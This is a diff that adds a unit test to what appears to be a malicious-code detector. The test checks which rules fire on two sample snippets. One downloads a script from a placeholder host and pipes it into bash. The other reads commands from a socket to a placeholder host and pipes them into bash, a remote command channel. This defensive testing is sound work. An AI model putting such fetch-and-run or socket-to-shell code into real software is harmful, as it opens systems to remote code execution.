@@ -86,6 +86,16 @@ def test_an_honest_habit_and_its_hostile_twin(honest: str, hostile: str, rule: s
     assert rule not in found(init(IMPORTED + honest))
 
 
+def test_an_installer_that_is_fetched_and_one_that_takes_orders() -> None:
+    """Both feed a shell; the one that is called for, from an address that is written there, is a download that is run."""
+    fetch = "def refresh():\n    s = requests.get('https://dl.example/install.sh').content\n"
+    obey = "import socket\ndef refresh():\n    s = socket.create_connection(('c.example', 443)).recv(4096)\n"
+    run = "    subprocess.run(['bash', '-s'], input=s)\n"
+    assert found(init(IMPORTED + fetch + run)).isdisjoint({"MLS-C018"})
+    assert not found(init(IMPORTED + fetch + run)).isdisjoint({"MLS-C005", "MLS-C006", "MLS-C007"})
+    assert "MLS-C018" in found(init(IMPORTED + obey + run))
+
+
 @pytest.mark.parametrize(
     "line",
     [
